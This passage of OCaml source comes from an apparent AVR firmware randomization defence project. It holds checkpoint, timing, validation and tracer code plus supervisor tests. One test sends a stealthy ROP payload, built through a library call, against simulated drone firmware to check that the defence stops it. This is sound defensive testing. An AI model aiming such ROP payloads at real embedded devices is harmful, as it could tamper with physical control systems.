    | h :: rest -> (
        match Json.of_string h with
        | Error e -> Error (Printf.sprintf "checkpoint header: %s" e)
        | Ok j -> Ok (j, rest))
  in
  let str k j = Option.bind (Json.member k j) Json.to_str in
  let int k j = Option.bind (Json.member k j) Json.to_int in
  let* () =
    if str "kind" header = Some "header" then Ok ()
    else Error "checkpoint does not start with a header line"
  in
  let* () =
    match int "version" header with
    | Some v when v = version -> Ok ()
    | Some v -> Error (Printf.sprintf "checkpoint version %d, expected %d" v version)
    | None -> Error "checkpoint header missing version"
  in
  let* spec =
    match (str "spec_hash" header, int "seed" header, int "tasks" header) with
    | Some spec_hash, Some seed, Some tasks when tasks >= 0 -> Ok { spec_hash; seed; tasks }
    | _ -> Error "checkpoint header missing spec_hash/seed/tasks"
  in
  let seen = Hashtbl.create 256 in
  let rec go acc n = function
    | [] -> Ok (List.rev acc)
    | line :: rest -> (
        let ctx = Printf.sprintf "checkpoint line %d" (n + 2) in
        match Json.of_string line with
        | Error e -> Error (Printf.sprintf "%s: %s" ctx e)
        | Ok j -> (
            let* index =
              match int "index" j with
              | Some i when i >= 0 && i < spec.tasks -> Ok i
              | Some i -> Error (Printf.sprintf "%s: index %d out of range [0,%d)" ctx i spec.tasks)
              | None -> Error (Printf.sprintf "%s: missing index" ctx)
            in
            let* () =
              if Hashtbl.mem seen index then
                Error (Printf.sprintf "%s: duplicate index %d" ctx index)
              else Ok (Hashtbl.add seen index ())
            in
            match str "kind" j with
            | Some "task" -> (
                match Json.member "result" j with
                | Some r -> go ((index, Result r) :: acc) (n + 1) rest
                | None -> Error (Printf.sprintf "%s: task entry without result" ctx))
            | Some "skip" -> (
                match str "reason" j with
                | Some reason -> go ((index, Skip reason) :: acc) (n + 1) rest
                | None -> Error (Printf.sprintf "%s: skip entry without reason" ctx))
            | Some k -> Error (Printf.sprintf "%s: unknown kind %S" ctx k)
            | None -> Error (Printf.sprintf "%s: missing kind" ctx)))
  in
  let* entries = go [] 0 rest in
  Ok (spec, entries)

let resume ~path ?stream ?(every = 32) spec =
  let ( let* ) = Result.bind in
  let* file_spec, entries = load ~path in
  let* () =
    if file_spec.spec_hash <> spec.spec_hash then
      Error
        (Printf.sprintf "checkpoint spec hash %s does not match campaign spec %s"
           file_spec.spec_hash spec.spec_hash)
    else if file_spec.seed <> spec.seed then
      Error (Printf.sprintf "checkpoint seed %d does not match campaign seed %d" file_spec.seed spec.seed)
    else if file_spec.tasks <> spec.tasks then
      Error
        (Printf.sprintf "checkpoint task count %d does not match campaign %d" file_spec.tasks
           spec.tasks)
    else Ok ()
  in
  let t =
    {
      path = Some path;
      stream;
      every;
      spec;
      lock = Mutex.create ();
      entries = Hashtbl.create 256;
      since_snapshot = 0;
      snapshots = 0;
      abort_after = None;
      recorded = 0;
    }
  in
  unlink_stale_tmps path;
  List.iter (fun (i, e) -> Hashtbl.replace t.entries i e) entries;
  (* Replay the primed frontier into the stream, so a results JSONL from
     a resumed run still covers every completed task. *)
  emit_stream t (header_line spec);
  List.iter (fun (i, e) -> emit_stream t (entry_line i e)) entries;
  Ok t

(* ---- recording ------------------------------------------------------- *)

let abort_after t n =
  Mutex.lock t.lock;
  t.abort_after <- Some n;
  Mutex.unlock t.lock

let add t index entry ~is_record =
  if index < 0 || index >= t.spec.tasks then
    invalid_arg (Printf.sprintf "Campaign.Checkpoint: index %d out of range" index);
  Mutex.lock t.lock;
  Fun.protect
    ~finally:(fun () -> Mutex.unlock t.lock)
    (fun () ->
      Hashtbl.replace t.entries index entry;
      emit_stream t (entry_line index entry);
      t.since_snapshot <- t.since_snapshot + 1;
      if is_record then t.recorded <- t.recorded + 1;
      if t.since_snapshot >= t.every then snapshot_locked t;
      (* Test hook for the kill/resume CI rules: after the [n]th live
         record, force a snapshot (so the frontier is on disk) and die
         the hard way — SIGKILL, no atexit, no flush — exactly the
         failure the resume path must survive. *)
      match t.abort_after with
      | Some n when is_record && t.recorded >= n ->
          snapshot_locked t;
          Unix.kill (Unix.getpid ()) Sys.sigkill
      | _ -> ())

let record t ~index result = add t index (Result result) ~is_record:true
let skip t ~index ~reason = add t index (Skip reason) ~is_record:false

let snapshot t =
  Mutex.lock t.lock;
  Fun.protect ~finally:(fun () -> Mutex.unlock t.lock) (fun () -> snapshot_locked t)

let close t = snapshot t

let entries t =
  Mutex.lock t.lock;
  Fun.protect ~finally:(fun () -> Mutex.unlock t.lock) (fun () -> sorted_entries_locked t)

let completed t =
  Mutex.lock t.lock;
  Fun.protect ~finally:(fun () -> Mutex.unlock t.lock) (fun () -> Hashtbl.length t.entries)

let snapshots_written t =
  Mutex.lock t.lock;
  Fun.protect ~finally:(fun () -> Mutex.unlock t.lock) (fun () -> t.snapshots)

let spec t = t.spec
