(* gettimeofday can step backwards (NTP); the ratchet makes [wall]
   monotonic so elapsed spans are never negative, including when read
   from different domains. *)

let last = Atomic.make neg_infinity

let wall () =
  let t = Unix.gettimeofday () in
  let rec ratchet () =
    let prev = Atomic.get last in
    if t <= prev then prev
    else if Atomic.compare_and_set last prev t then t
    else ratchet ()
  in
  ratchet ()

let cpu () = Sys.time ()

type span = { wall_s : float; cpu_s : float }

let time f =
  let w0 = wall () and c0 = cpu () in
  let r = f () in
  let w1 = wall () and c1 = cpu () in
  (r, { wall_s = w1 -. w0; cpu_s = c1 -. c0 })

let rate count span =
  count /. (if span.wall_s > 0.0 then span.wall_s else epsilon_float)

let span_to_json_fields s =
  [
    ("wall_s", Mavr_telemetry.Json.Float s.wall_s);
    ("cpu_s", Mavr_telemetry.Json.Float s.cpu_s);
  ]

let tracer () = Mavr_telemetry.Span.create ~clock:{ Mavr_telemetry.Span.wall; cpu } ()
