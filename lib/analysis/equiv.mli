(** Randomization translation-validator.

    Proves that a randomized image is the {e same program} as its seed
    modulo relocation, instead of trusting the randomizer's rewriting
    code.  The address translation is forced by construction — the
    shuffle permutes whole function blocks, so inside text it is
    name-match plus intra-block offset, and the identity elsewhere — and
    the validator then checks, with no reference to the randomizer's
    internals:

    - {e structure}: image size, executable-region bounds, the function
      multiset on (name, size, kind), and the funptr slot locations are
      unchanged;
    - {e instruction streams}: every function block and the low region
      decode to streams with identical boundaries where each randomized
      instruction equals the original with transfer targets rewritten
      through the translation (absolute [call]/[jmp] word targets,
      relative [rjmp]/[rcall]/branch offsets) and everything else —
      opcode, registers, immediates — bit-identical;
    - {e data}: every non-executable byte outside a funptr slot is
      untouched, and each funptr slot's stored word address is exactly
      the translation of the original's;
    - {e CFG isomorphism}: the independently recovered control-flow
      graphs have translation-isomorphic reachable-node sets,
      basic-block leader sets, and per-node successor edge sets.

    A single mis-relocated call target, a byte of corrupted data, or a
    dropped edge each produce a typed {!mismatch}. *)

type stats = {
  functions : int;
  insns : int;  (** instructions compared across all executable ranges *)
  edges : int;  (** CFG edges checked isomorphic *)
  funptrs : int;
  vectors : int;
}

type mismatch = { at : int; what : string }
(** [at] is a byte address in whichever image the check was anchored to. *)

val validate :
  original:Mavr_obj.Image.t -> randomized:Mavr_obj.Image.t -> (stats, mismatch list) result

val stats_to_json : stats -> Mavr_telemetry.Json.t
val to_json : (stats, mismatch list) result -> Mavr_telemetry.Json.t
val pp_mismatch : Format.formatter -> mismatch -> unit
