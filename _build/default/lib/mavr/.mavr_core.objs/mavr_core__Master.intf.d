lib/mavr/master.mli: Format Mavr_avr Mavr_obj Serial
