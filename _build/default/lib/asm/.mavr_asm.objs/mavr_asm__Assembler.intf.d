lib/asm/assembler.mli: Mavr_avr
