type kind = Func | Object

type symbol = { name : string; addr : int; size : int; kind : kind }

type t = {
  code : string;
  exec_low_end : int;
  text_start : int;
  text_end : int;
  symbols : symbol list;
  funptr_locs : int list;
}

let check t =
  if t.text_start < 0 || t.text_end > String.length t.code || t.text_start > t.text_end then
    Error "text section outside image"
  else
    let rec go expected = function
      | [] -> if expected = t.text_end then Ok () else Error "symbols do not cover text section"
      | s :: rest ->
          if s.addr <> expected then
            Error (Printf.sprintf "symbol %s at 0x%x, expected 0x%x (gap/overlap)" s.name s.addr expected)
          else if s.size < 0 then Error (Printf.sprintf "symbol %s has negative size" s.name)
          else go (s.addr + s.size) rest
    in
    go t.text_start t.symbols

let validate = check

let of_assembly ?exec_low_end (out : Mavr_asm.Assembler.output) =
  let symbols =
    List.map
      (fun (s : Mavr_asm.Assembler.symbol) ->
        { name = s.name; addr = s.addr; size = s.size; kind = Func })
      (List.sort
         (fun (a : Mavr_asm.Assembler.symbol) b -> compare a.addr b.addr)
         out.symbols)
  in
  let t =
    {
      code = out.code;
      exec_low_end = (match exec_low_end with Some e -> e | None -> out.text_start);
      text_start = out.text_start;
      text_end = out.text_end;
      symbols;
      funptr_locs = List.sort compare out.funptr_locs;
    }
  in
  match check t with Ok () -> t | Error m -> invalid_arg ("Image.of_assembly: " ^ m)

let size t = String.length t.code
let function_count t = List.length t.symbols

let find t name =
  match List.find_opt (fun s -> s.name = name) t.symbols with
  | Some s -> s
  | None -> raise Not_found

let function_containing t addr =
  (* Binary search over the ascending symbol array. *)
  let arr = Array.of_list t.symbols in
  let n = Array.length arr in
  if n = 0 || addr < arr.(0).addr then None
  else begin
    let lo = ref 0 and hi = ref (n - 1) in
    while !lo < !hi do
      let mid = (!lo + !hi + 1) / 2 in
      if arr.(mid).addr <= addr then lo := mid else hi := mid - 1
    done;
    let s = arr.(!lo) in
    if addr < s.addr + s.size then Some s else None
  end

let code_of t sym = String.sub t.code sym.addr sym.size

let function_starts t = Array.of_list (List.map (fun s -> s.addr) t.symbols)

let is_function_start t addr =
  (* Binary search over the ascending symbol list. *)
  let arr = Array.of_list t.symbols in
  let lo = ref 0 and hi = ref (Array.length arr - 1) and found = ref false in
  while (not !found) && !lo <= !hi do
    let mid = (!lo + !hi) / 2 in
    let a = arr.(mid).addr in
    if a = addr then found := true else if a < addr then lo := mid + 1 else hi := mid - 1
  done;
  !found

let fingerprint t =
  let h = ref 0x4bf29ce484222325 in
  String.iter
    (fun c ->
      h := !h lxor Char.code c;
      h := !h * 0x100000001b3)
    t.code;
  !h land max_int

let pp_summary fmt t =
  Format.fprintf fmt "image: %d bytes, text [0x%x,0x%x), %d functions, %d function pointers"
    (size t) t.text_start t.text_end (function_count t) (List.length t.funptr_locs)
