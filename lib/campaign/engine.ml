module Splitmix = Mavr_prng.Splitmix

let task_seeds ~seed ~tasks =
  if tasks < 0 then invalid_arg "Campaign.Engine.task_seeds: negative task count";
  let root = Splitmix.create ~seed in
  (* One split per task, drawn sequentially in the coordinator: the
     schedule depends only on (seed, index), never on [jobs].  Seeds are
     spread over the 63-bit space, so independent campaigns (different
     roots) never silently rerun each other's layouts the way the old
     hardcoded [i + 1] seeds did. *)
  Array.init tasks (fun _ -> Splitmix.next (Splitmix.split root))

let run_tasks ?pool ?jobs ~tasks body =
  match pool with
  | Some p -> Pool.run p ~tasks body
  | None -> Pool.with_pool ?jobs (fun p -> Pool.run p ~tasks body)

let map ?pool ?jobs ~seed ~tasks f =
  let seeds = task_seeds ~seed ~tasks in
  let results = Array.make tasks None in
  let body i =
    results.(i) <- Some (f ~index:i ~rng:(Splitmix.create ~seed:seeds.(i)))
  in
  run_tasks ?pool ?jobs ~tasks body;
  Array.map (function Some v -> v | None -> assert false) results

let map_reduce ?pool ?jobs ~seed ~tasks ~map:f ~reduce init =
  Array.fold_left reduce init (map ?pool ?jobs ~seed ~tasks f)
