lib/mavr/serial.mli:
