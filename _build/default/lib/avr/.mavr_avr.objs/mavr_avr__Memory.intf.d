lib/avr/memory.mli: Device
