test/test_bignum.mli:
