(* The span tracer and progress stream (PR-7): nesting and view order,
   trace_event export shape, the timing-strip jobs-invariance contract
   through the campaign engine, recorder interop, merge semantics, the
   heartbeat stream's seq discipline, and per-domain pool stats. *)

module Json = Mavr_telemetry.Json
module Span = Mavr_telemetry.Span
module Recorder = Mavr_telemetry.Recorder
module Metrics = Mavr_telemetry.Metrics
module Engine = Mavr_campaign.Engine
module Pool = Mavr_campaign.Pool
module Progress = Mavr_campaign.Progress

(* A deterministic clock the tests can step by hand: wall advances as
   told, cpu at half rate — so exported durations are predictable. *)
let fake_clock () =
  let now = ref 0.0 in
  let clock = { Span.wall = (fun () -> !now); cpu = (fun () -> !now /. 2.0) } in
  (clock, fun dt -> now := !now +. dt)

(* ---- nesting, views, lane order ---- *)

let test_nesting_and_views () =
  let clock, tick = fake_clock () in
  let t = Span.create ~clock () in
  let a = Span.lane t ~sort:1 "alpha" in
  let b = Span.lane t ~sort:0 "beta" in
  Span.span a "outer" (fun () ->
      tick 1.0;
      Span.span a "inner" (fun () -> tick 0.5);
      Span.instant a ~args:[ ("k", Json.Int 7) ] "mark");
  Span.span b "solo" (fun () -> tick 0.25);
  Alcotest.(check int) "event count" 4 (Span.event_count t);
  Alcotest.(check int) "lane count" 2 (Span.lane_count t);
  match Span.views t with
  | [ v1; v2; v3; v4 ] ->
      (* beta sorts first (sort 0), then alpha; within alpha the inner
         span completes before the instant, which precedes outer. *)
      Alcotest.(check string) "lane order" "beta" v1.Span.v_lane;
      Alcotest.(check string) "solo" "solo" v1.Span.v_name;
      Alcotest.(check string) "inner first" "inner" v2.Span.v_name;
      Alcotest.(check int) "inner depth" 1 v2.Span.v_depth;
      Alcotest.(check string) "instant next" "mark" v3.Span.v_name;
      Alcotest.(check bool) "instant flag" true v3.Span.v_instant;
      Alcotest.(check bool) "instant arg kept" true (List.mem_assoc "k" v3.Span.v_args);
      Alcotest.(check string) "outer last" "outer" v4.Span.v_name;
      Alcotest.(check int) "outer depth" 0 v4.Span.v_depth
  | vs -> Alcotest.failf "expected 4 views, got %d" (List.length vs)

let test_span_closes_on_raise () =
  let clock, tick = fake_clock () in
  let t = Span.create ~clock () in
  let l = Span.lane t "l" in
  (try Span.span l "boom" (fun () -> tick 1.0; failwith "boom") with Failure _ -> ());
  Alcotest.(check int) "span recorded despite raise" 1 (Span.event_count t);
  (* The stack is clean again: a fresh span nests at depth 0. *)
  Span.span l "after" (fun () -> ());
  match Span.views t with
  | [ _; v ] -> Alcotest.(check int) "depth reset" 0 v.Span.v_depth
  | _ -> Alcotest.fail "expected 2 views"

(* ---- trace_event export ---- *)

let test_trace_event_roundtrip () =
  let clock, tick = fake_clock () in
  let t = Span.create ~clock () in
  let l = Span.lane t "work" in
  Span.span l "phase" (fun () -> tick 3.0);
  let c = Span.lane t ~domain:Span.Cycles "sim" in
  Span.cycle_span c ~begin_cycle:100 ~end_cycle:350 "flight";
  let doc =
    match Json.of_string (Json.to_string (Span.to_trace_event t)) with
    | Ok d -> d
    | Error e -> Alcotest.failf "export does not parse: %s" e
  in
  let events = match Json.member "traceEvents" doc with
    | Some (Json.List evs) -> evs
    | _ -> Alcotest.fail "missing traceEvents"
  in
  let phase_of ev = Option.bind (Json.member "ph" ev) Json.to_str in
  let named n ev = Option.bind (Json.member "name" ev) Json.to_str = Some n in
  (* Metadata names both processes and both lanes. *)
  Alcotest.(check int) "process_name metadata" 2
    (List.length (List.filter (fun e -> phase_of e = Some "M" && named "process_name" e) events));
  (* The host complete event carries the fake clock's 3 s as 3e6 µs. *)
  (match List.find_opt (named "phase") events with
  | Some ev ->
      Alcotest.(check (option (float 1.0))) "dur us" (Some 3_000_000.0)
        (Option.bind (Json.member "dur" ev) Json.to_float);
      Alcotest.(check (option int)) "host pid" (Some 1)
        (Option.bind (Json.member "pid" ev) Json.to_int)
  | None -> Alcotest.fail "host span not exported");
  (* The cycles span keeps integer cycle stamps under pid 2. *)
  match List.find_opt (named "flight") events with
  | Some ev ->
      Alcotest.(check (option int)) "cycle ts" (Some 100)
        (Option.bind (Json.member "ts" ev) Json.to_int);
      Alcotest.(check (option int)) "cycle dur" (Some 250)
        (Option.bind (Json.member "dur" ev) Json.to_int);
      Alcotest.(check (option int)) "cycles pid" (Some 2)
        (Option.bind (Json.member "pid" ev) Json.to_int)
  | None -> Alcotest.fail "cycles span not exported"

let test_strip_timing_zeroes_host_only () =
  let clock, tick = fake_clock () in
  let t = Span.create ~clock () in
  let l = Span.lane t "work" in
  Span.span l "phase" (fun () -> tick 3.0);
  let c = Span.lane t ~domain:Span.Cycles "sim" in
  Span.cycle_instant c ~cycle:42 "tick";
  let doc =
    match Json.of_string (Json.to_string (Span.to_trace_event ~strip_timing:true t)) with
    | Ok d -> d
    | Error e -> Alcotest.failf "stripped export does not parse: %s" e
  in
  let events = match Json.member "traceEvents" doc with
    | Some (Json.List evs) -> evs
    | _ -> Alcotest.fail "missing traceEvents"
  in
  let named n ev = Option.bind (Json.member "name" ev) Json.to_str = Some n in
  (match List.find_opt (named "phase") events with
  | Some ev ->
      Alcotest.(check (option int)) "host ts zeroed" (Some 0)
        (Option.bind (Json.member "ts" ev) Json.to_int);
      Alcotest.(check (option int)) "host dur zeroed" (Some 0)
        (Option.bind (Json.member "dur" ev) Json.to_int)
  | None -> Alcotest.fail "host span missing");
  match List.find_opt (named "tick") events with
  | Some ev ->
      Alcotest.(check (option int)) "cycle stamp kept" (Some 42)
        (Option.bind (Json.member "ts" ev) Json.to_int)
  | None -> Alcotest.fail "cycle instant missing"

(* ---- the jobs-invariance contract through the engine ---- *)

let traced_engine_run ~jobs =
  let t = Span.create () in
  let _ =
    Engine.map ~jobs ~tracer:t ~seed:9 ~tasks:8 (fun ~index ~rng ->
        (* Deterministic per-task content: an instant whose arg derives
           from the split seed, plus a nested span. *)
        let l = Span.lane t ~sort:index (Printf.sprintf "task-%04d" index) in
        Span.instant l ~args:[ ("draw", Json.Int (Mavr_prng.Splitmix.next rng land 0xffff) ) ]
          "draw";
        Span.span l "body" (fun () -> index * index))
  in
  t

let test_stripped_export_jobs_invariant () =
  let t1 = traced_engine_run ~jobs:1 in
  let t4 = traced_engine_run ~jobs:4 in
  Alcotest.(check string) "stripped jsonl identical"
    (Span.to_jsonl ~strip_timing:true t1)
    (Span.to_jsonl ~strip_timing:true t4);
  Alcotest.(check string) "stripped trace_event identical"
    (Json.to_string (Span.to_trace_event ~strip_timing:true t1))
    (Json.to_string (Span.to_trace_event ~strip_timing:true t4))

(* ---- recorder interop ---- *)

let test_of_recorder () =
  let r = Recorder.create ~capacity:16 in
  Recorder.span_begin r ~cycle:100 "flash";
  Recorder.point r ~cycle:150 ~value:3 "inject";
  Recorder.span_end r ~cycle:400 "flash";
  Recorder.span_end r ~cycle:500 "orphan";
  let t = Span.create () in
  let l = Span.lane t ~domain:Span.Cycles "rig" in
  Span.of_recorder l (Recorder.events r);
  let names = List.map (fun v -> (v.Span.v_name, v.Span.v_instant)) (Span.views t) in
  (* The point lands first (cycle 150 precedes the span's close at 400);
     the unmatched end degrades to an instant rather than vanishing. *)
  Alcotest.(check bool) "point kept" true (List.mem ("inject", true) names);
  Alcotest.(check bool) "span matched" true (List.mem ("flash", false) names);
  Alcotest.(check bool) "orphan end degraded" true (List.mem ("orphan.end", true) names)

(* ---- merge ---- *)

let test_merge () =
  let a = Span.create () in
  let b = Span.create () in
  Span.instant (Span.lane a "shared") "from-a";
  Span.instant (Span.lane b "shared") "from-b";
  Span.instant (Span.lane b "only-b") "solo";
  Span.merge ~into:a b;
  Alcotest.(check int) "events merged" 3 (Span.event_count a);
  Alcotest.(check int) "lanes merged" 2 (Span.lane_count a);
  let shared = List.filter (fun v -> v.Span.v_lane = "shared") (Span.views a) in
  Alcotest.(check int) "shared lane holds both" 2 (List.length shared)

(* ---- misuse guards ---- *)

let test_domain_guards () =
  let t = Span.create () in
  let h = Span.lane t "host-lane" in
  let c = Span.lane t ~domain:Span.Cycles "cycle-lane" in
  let raises f = match f () with
    | exception Invalid_argument _ -> true
    | _ -> false
  in
  Alcotest.(check bool) "domain change rejected" true
    (raises (fun () -> Span.lane t ~domain:Span.Cycles "host-lane"));
  Alcotest.(check bool) "host op on cycles lane" true
    (raises (fun () -> Span.instant c "x"));
  Alcotest.(check bool) "cycle op on host lane" true
    (raises (fun () -> Span.cycle_instant h ~cycle:1 "x"));
  Alcotest.(check bool) "end without begin" true (raises (fun () -> Span.end_span h))

(* ---- progress stream ---- *)

let test_progress_seq_and_fields () =
  let lines = ref [] in
  let p = Progress.create ~interval_s:0.0 ~sink:(fun l -> lines := l :: !lines) () in
  Progress.on_heartbeat p (fun () -> [ ("extra", Json.Int 99) ]);
  Progress.add_total p 3;
  Progress.task_done p;
  Progress.task_done p;
  Progress.task_done p;
  Progress.emit p ~reason:"final";
  Alcotest.(check int) "tasks done" 3 (Progress.tasks_done p);
  Alcotest.(check int) "total" 3 (Progress.total p);
  let parsed =
    List.rev_map
      (fun l -> match Json.of_string l with
        | Ok j -> j
        | Error e -> Alcotest.failf "progress line does not parse: %s" e)
      !lines
  in
  Alcotest.(check int) "lines emitted" (List.length parsed) (Progress.lines_emitted p);
  List.iteri
    (fun i j ->
      Alcotest.(check (option int)) "seq gap-free" (Some (i + 1))
        (Option.bind (Json.member "seq" j) Json.to_int);
      Alcotest.(check bool) "provider field present" true (Json.member "extra" j <> None);
      let d = Option.bind (Json.member "done" j) Json.to_int in
      let total = Option.bind (Json.member "total" j) Json.to_int in
      Alcotest.(check bool) "done <= total" true (d <= total))
    parsed;
  (match List.rev parsed with
  | last :: _ ->
      Alcotest.(check (option string)) "final reason" (Some "final")
        (Option.bind (Json.member "reason" last) Json.to_str);
      Alcotest.(check (option int)) "final done" (Some 3)
        (Option.bind (Json.member "done" last) Json.to_int)
  | [] -> Alcotest.fail "no lines emitted");
  match Progress.create ~interval_s:(-1.0) ~sink:ignore () with
  | exception Invalid_argument _ -> ()
  | _ -> Alcotest.fail "negative interval accepted"

let test_progress_interval_gate () =
  (* A huge interval lets only interval-exempt emissions through: the
     very first completion (last_emit starts at -inf), the final-task
     completion, and forced emits. *)
  let n = ref 0 in
  let p = Progress.create ~interval_s:3600.0 ~sink:(fun _ -> incr n) () in
  Progress.add_total p 3;
  Progress.task_done p;
  Alcotest.(check int) "first completion emits" 1 !n;
  Progress.task_done p;
  Alcotest.(check int) "gated mid-run" 1 !n;
  Progress.task_done p;
  Alcotest.(check int) "final completion emits" 2 !n

(* ---- pool utilization stats ---- *)

let test_pool_stats () =
  Pool.with_pool ~jobs:2 (fun pool ->
      let _ = Engine.map ~pool ~seed:4 ~tasks:32 (fun ~index ~rng:_ -> index) in
      let stats = Pool.stats pool in
      Alcotest.(check int) "one slot per domain" (Pool.jobs pool) (Array.length stats);
      let total = Array.fold_left (fun acc s -> acc + s.Pool.tasks_run) 0 stats in
      Alcotest.(check int) "every task accounted to a slot" 32 total;
      Array.iter
        (fun s -> Alcotest.(check bool) "busy time non-negative" true (s.Pool.busy_s >= 0.0))
        stats)

let () =
  Alcotest.run "span"
    [
      ( "tracer",
        [
          Alcotest.test_case "nesting and views" `Quick test_nesting_and_views;
          Alcotest.test_case "closes on raise" `Quick test_span_closes_on_raise;
          Alcotest.test_case "trace_event round-trip" `Quick test_trace_event_roundtrip;
          Alcotest.test_case "strip zeroes host only" `Quick test_strip_timing_zeroes_host_only;
          Alcotest.test_case "stripped export jobs-invariant" `Quick
            test_stripped_export_jobs_invariant;
          Alcotest.test_case "recorder interop" `Quick test_of_recorder;
          Alcotest.test_case "merge" `Quick test_merge;
          Alcotest.test_case "domain guards" `Quick test_domain_guards;
        ] );
      ( "progress",
        [
          Alcotest.test_case "seq and fields" `Quick test_progress_seq_and_fields;
          Alcotest.test_case "interval gate" `Quick test_progress_interval_gate;
        ] );
      ( "pool", [ Alcotest.test_case "utilization stats" `Quick test_pool_stats ] );
    ]
