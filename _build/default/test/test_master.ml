module Cpu = Mavr_avr.Cpu
module Image = Mavr_obj.Image
module Master = Mavr_core.Master
module Serial = Mavr_core.Serial
module Rop = Mavr_core.Rop

let image () = (Helpers.build_mavr ()).image

let fresh_master ?config () =
  let m = Master.create ?config () in
  Master.provision m (image ());
  m

let test_provision_stores_hex () =
  let m = fresh_master () in
  let hex = Master.stored_hex m in
  Alcotest.(check bool) "hex text stored" true (String.length hex > 0);
  Alcotest.(check char) "intel hex records" ':' hex.[0];
  (* The stored file round-trips to the original image. *)
  let img = Mavr_obj.Symtab.of_hex hex in
  Alcotest.(check string) "image preserved" (image ()).Image.code img.Image.code

let test_boot_randomizes () =
  let m = fresh_master () in
  let app = Cpu.create () in
  Master.boot m ~app;
  Alcotest.(check int) "one boot" 1 (Master.boots m);
  Alcotest.(check int) "one reflash" 1 (Master.reflashes m);
  let cur = Master.current_image m in
  Alcotest.(check bool) "layout differs from stored" true
    (Mavr_core.Randomize.layout_distance (image ()) cur > 0);
  (* The booted application actually runs. *)
  ignore (Cpu.run app ~max_cycles:100_000);
  Alcotest.(check bool) "app alive" true (Cpu.watchdog_feeds app > 10)

let test_boot_schedule () =
  (* randomize_every_boots = 3: boots 1 and 4 randomize, 2-3 reuse. *)
  let config = { Master.default_config with randomize_every_boots = 3 } in
  let m = fresh_master ~config () in
  let app = Cpu.create () in
  let layouts = ref [] in
  for _ = 1 to 4 do
    Master.boot m ~app;
    layouts := (Master.current_image m).Image.code :: !layouts
  done;
  match List.rev !layouts with
  | [ l1; l2; l3; l4 ] ->
      Alcotest.(check bool) "boot2 reuses boot1 layout" true (l1 = l2);
      Alcotest.(check bool) "boot3 reuses" true (l2 = l3);
      Alcotest.(check bool) "boot4 re-randomizes" true (l3 <> l4)
  | _ -> Alcotest.fail "expected 4 boots"

let test_unprovisioned_boot_fails () =
  let m = Master.create () in
  let app = Cpu.create () in
  match Master.boot m ~app with
  | () -> Alcotest.fail "boot without provisioning must fail"
  | exception Invalid_argument _ -> ()

let test_detects_halt_and_rerandomizes () =
  let m = fresh_master () in
  let app = Cpu.create () in
  Master.boot m ~app;
  let gen1 = (Master.current_image m).Image.code in
  ignore (Cpu.run app ~max_cycles:50_000);
  Cpu.force_halt app (Cpu.Wild_pc 0x1234);
  Alcotest.(check bool) "detected" true (Master.check_and_recover m ~app);
  Alcotest.(check int) "attack counted" 1 (Master.attacks_detected m);
  Alcotest.(check bool) "new layout installed" true ((Master.current_image m).Image.code <> gen1);
  (* The application restarts and runs on the new binary. *)
  ignore (Cpu.run app ~max_cycles:100_000);
  Alcotest.(check bool) "recovered" true (Cpu.watchdog_feeds app > 10)

let test_detects_feed_silence () =
  let config = { Master.default_config with watchdog_window_cycles = 10_000 } in
  let m = fresh_master ~config () in
  let app = Cpu.create () in
  Master.boot m ~app;
  ignore (Cpu.run app ~max_cycles:20_000);
  (* Freeze the firmware in a busy loop by pointing its PC at the
     bad-irq spin (an rjmp-to-self, bytes ff cf) — no feeds, no halt.
     Symbol names do not survive the HEX round-trip, so locate it by
     its byte pattern, as the randomized image would be searched. *)
  let code = (Master.current_image m).Image.code in
  let rec find_spin i =
    if i + 1 >= String.length code then Alcotest.fail "no rjmp-self found"
    else if Char.code code.[i] = 0xFF && Char.code code.[i + 1] = 0xCF then i
    else find_spin (i + 2)
  in
  let spin_addr = find_spin ((Master.current_image m).Image.text_start) in
  Cpu.set_pc app (spin_addr / 2);
  ignore (Cpu.run app ~max_cycles:50_000);
  Alcotest.(check bool) "silence detected" true (Master.check_and_recover m ~app);
  Alcotest.(check int) "one detection" 1 (Master.attacks_detected m)

let test_streaming_stats_exposed () =
  let m = fresh_master () in
  let app = Cpu.create () in
  Master.boot m ~app;
  let img_pages = (Image.size (Master.current_image m) + 255) / 256 in
  Alcotest.(check int) "pages per programming" img_pages (Master.pages_programmed m);
  Alcotest.(check bool) "working set recorded" true (Master.peak_working_set m > 0);
  Alcotest.(check bool) "working set fits the 1284P SRAM" true
    (Master.peak_working_set m < Mavr_avr.Device.atmega1284p.sram_bytes)

let test_no_crashloop_after_recovery () =
  (* Regression: cycle-anchored peripheral state (UART busy-until, the
     watchdog feed timestamp) must restart with the clock on reset, or a
     recovered application spins on a "busy" transmitter for an entire
     previous lifetime and the master detects silence forever. *)
  let m = fresh_master () in
  let app = Cpu.create () in
  Master.boot m ~app;
  ignore (Cpu.run app ~max_cycles:300_000) (* plenty of telemetry sent *);
  Cpu.force_halt app (Cpu.Wild_pc 0);
  ignore (Master.check_and_recover m ~app);
  let detections = Master.supervise m ~app ~cycles:300_000 in
  Alcotest.(check int) "no further detections" 0 detections;
  Alcotest.(check bool) "feeds are fresh" true
    (Cpu.cycles app - Cpu.last_feed_cycles app < 10_000)

let test_supervise_counts () =
  let m = fresh_master () in
  let app = Cpu.create () in
  Master.boot m ~app;
  let detected = Master.supervise m ~app ~cycles:200_000 in
  Alcotest.(check int) "healthy run has no detections" 0 detected

let test_supervised_attack_recovery () =
  (* End-to-end §VII-A: stealthy attack vs randomized binary, supervised. *)
  let b, ti, obs = Helpers.attack_target () in
  ignore b;
  let m = fresh_master () in
  let app = Cpu.create () in
  Master.boot m ~app;
  ignore (Cpu.run app ~max_cycles:60_000);
  List.iter (Cpu.uart_send app)
    (Rop.v2_stealthy ti obs ~writes:[ Rop.write_u16 obs ~addr:Mavr_firmware.Layout.gyro_cfg ~value:0x4000 ~neighbour:0 ]);
  ignore (Master.supervise m ~app ~cycles:3_000_000);
  let cfg =
    Cpu.data_peek app Mavr_firmware.Layout.gyro_cfg
    lor (Cpu.data_peek app (Mavr_firmware.Layout.gyro_cfg + 1) lsl 8)
  in
  Alcotest.(check bool) "attack did not succeed" false (cfg = 0x4000);
  Alcotest.(check bool) "app healthy at the end" true (Cpu.halted app = None)

let test_events_recorded () =
  let m = fresh_master () in
  let app = Cpu.create () in
  Master.boot m ~app;
  Cpu.force_halt app (Cpu.Wild_pc 2);
  ignore (Master.check_and_recover m ~app);
  let events = Master.events m in
  Alcotest.(check int) "boot + detect + reflash" 3 (List.length events);
  match events with
  | [ Master.Booted _; Master.Attack_detected _; Master.Reflashed _ ] -> ()
  | _ -> Alcotest.fail "unexpected event sequence"

(* ---- Serial / Table II timing model ---- *)

let test_prototype_throughput () =
